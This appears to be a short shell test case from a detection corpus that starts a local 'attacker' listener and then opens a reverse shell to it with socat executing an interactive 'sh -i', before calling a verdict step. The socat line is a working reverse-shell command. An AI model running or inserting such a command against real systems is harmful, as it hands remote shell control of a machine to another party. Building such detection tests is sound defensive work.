. "$CORPUS/lib/common.sh"
attacker listen 31036
socat TCP:127.0.0.1:31036 EXEC:'sh -i',pty,stderr,setsid &
verdict
